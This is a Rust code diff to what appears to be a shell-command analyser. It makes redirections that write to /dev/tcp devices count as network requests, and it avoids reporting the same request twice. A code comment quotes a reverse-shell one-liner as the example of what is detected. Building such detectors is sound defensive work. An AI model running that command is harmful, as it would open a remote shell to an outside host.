@@ -149,7 +149,12 @@ impl<'a> Evaluator<'a> {
                         None => continue,
                     }
                 }
-                Kind::Write { .. } | Kind::Duplicate(None) => continue,
+                // A socket is read where it is written: `bash >& /dev/tcp/h/p 0>&1`.
+                Kind::Write { target, .. } => match target.word.known().and_then(NetworkDevice::of) {
+                    Some(device) => self.device_read(&device, target.span, by),
+                    None => continue,
+                },
+                Kind::Duplicate(None) => continue,
             };
             open.push((one.descriptor, stream));
         }
@@ -197,9 +202,7 @@ impl<'a> Evaluator<'a> {
                 return stream;
             }
             if let Some(device) = NetworkDevice::of(path) {
-                let end = self.device_request(&device, target.span, by);
-                let ends = self.arena.alloc_slice_copy(&[end]);
-                return Stream { ends, how: How::Redirection, content: Content::Unknown(Unseen::ANY) };
+                return self.device_read(&device, target.span, by);
             }
             if crate::path::is_harmless_device(path) {
                 let content = if path == "/dev/null" { Content::Text(Word::EMPTY) } else { Content::Inherited };
@@ -252,7 +255,18 @@ impl<'a> Evaluator<'a> {
         }
     }
 
+    fn device_read(&mut self, device: &NetworkDevice<'_>, span: Span, by: Option<InvocationId>) -> Stream<'a> {
+        let ends = self.arena.alloc_slice_copy(&[self.device_request(device, span, by)]);
+        Stream { ends, how: How::Redirection, content: Content::Unknown(Unseen::ANY) }
+    }
+
+    /// The request of a device that a redirection opens; one that is written and read is opened once.
     fn device_request(&mut self, device: &NetworkDevice<'_>, span: Span, by: Option<InvocationId>) -> End {
+        if let Some((opened, last)) = self.facts.requests.iter().enumerate().next_back()
+            && (last.span, last.by) == (span, by)
+        {
+            return End::Request(index(opened));
+        }
         self.finding(FindingKind::NetworkDevice, by, span);
         let url = self.arena.alloc_str(&format!("{}://{}:{}/", device.protocol, device.host, device.port));
         let certainty = self.frame.cap;
